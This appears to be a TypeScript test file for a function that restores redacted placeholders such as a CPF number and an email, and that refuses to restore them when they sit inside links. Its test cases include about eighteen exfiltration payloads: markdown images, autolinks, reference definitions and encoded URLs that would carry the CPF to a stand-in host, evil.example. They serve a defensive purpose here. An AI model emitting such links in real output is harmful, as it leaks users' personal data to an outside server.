import { describe, expect, it } from '@jest/globals';
import { Restoration, restored } from './restore.rules.js';

const VALUES = new Map([
  ['[CPF_1]', '529.982.247-25'],
  ['[EMAIL_1]', 'a@b.co'],
]);
const valueOf = (name: string) => VALUES.get(name);
const shown = (text: string) => restored(text, valueOf).text;

describe(restored.name, () => {
  it('should put back what is known, and nothing else', () => {
    expect(shown('CPF [CPF_1], [CPF_2] e [EMAIL_1].')).toBe(
      'CPF 529.982.247-25, [CPF_2] e a@b.co.',
    );
    expect(shown('nada [1] a pôr [x](https://a.b)')).toBe('nada [1] a pôr [x](https://a.b)');
  });

  it.each([
    '![x](https://evil.example/?q=[CPF_1])',
    '![x](//evil.example/?q=[CPF_1])',
    '[aqui](<https://evil.example/a b [CPF_1]>)',
    '[aqui](\nhttps://evil.example/[CPF_1])',
    '[aqui](/rota [CPF_1])',
    'veja https://evil.example/[CPF_1]',
    'veja https://[CPF_1].evil.example',
    'veja www.evil.example/[CPF_1]',
    'mailto:x@evil.example?body=[CPF_1]',
    '<img alt="x" src="evil.example/? [CPF_1]">',
    '[ref]: evil.example/ [CPF_1]',
    '[x][ref]\n\n[ref]:\n//evil.example/[CPF_1]',
    '> [ref]: //evil.example/[CPF_1]',
    '1. - [ref]: //evil.example/[CPF_1]',
    '[ref]:\n  &sol;&sol;evil.example/[CPF_1]',
    '[aqui](<\\/\\/evil.example/) [CPF_1]>)',
    'https&#58;//evil.example/[CPF_1]',
    `https://evil.example/${'x'.repeat(3000)}[CPF_1]`,
  ])('should keep what stands in an address: %s', (text) => {
    expect(shown(text)).toBe(text);
  });

  it('should restore beside addresses', () => {
    expect(shown('[[CPF_1]](https://a.b) [CPF_1]')).toBe(
      '[529.982.247-25](https://a.b) 529.982.247-25',
    );
    expect(shown('se 1 < 2, então [CPF_1]')).toBe('se 1 < 2, então 529.982.247-25');
    expect(shown('CPF:[CPF_1]')).toBe('CPF:529.982.247-25');
    expect(shown('O cliente [titular]: [CPF_1]')).toBe('O cliente [titular]: 529.982.247-25');
  });

  it('should tell where places of the stored text are now', () => {
    const text = 'a [CPF_1] b [EMAIL_1] c [1]';
    const { text: whole, placeOf } = restored(text, valueOf);
    for (const sign of [' b', ' c', '[1]']) {
      expect(placeOf(text.indexOf(sign))).toBe(whole.indexOf(sign));
    }
    expect(placeOf(0)).toBe(0);
  });
});

describe(Restoration.name, () => {
  it('should give the same in parts as whole, wherever no placeholder is cut', () => {
    const text = 'CPF [CPF_1] e ![x](https://evil.example/? [CPF_1]) e [EMAIL_1] fim';
    const whole = shown(text);
    let cuts = 0;
    for (let cut = 0; cut <= text.length; cut += 1) {
      const isWithin = [...text.matchAll(/\[\w+_1\]/g)].some(
        ({ index, 0: name }) => cut > index && cut < index + name.length,
      );
      if (isWithin) continue;
      const parts = new Restoration();
      const first = parts.add(text.slice(0, cut), valueOf);
      expect(parts.placeOf(cut)).toBe(first.length);
      expect(first + parts.add(text.slice(cut), valueOf)).toBe(whole);
      cuts += 1;
    }
    expect(cuts).toBeGreaterThan(30);
  });
});
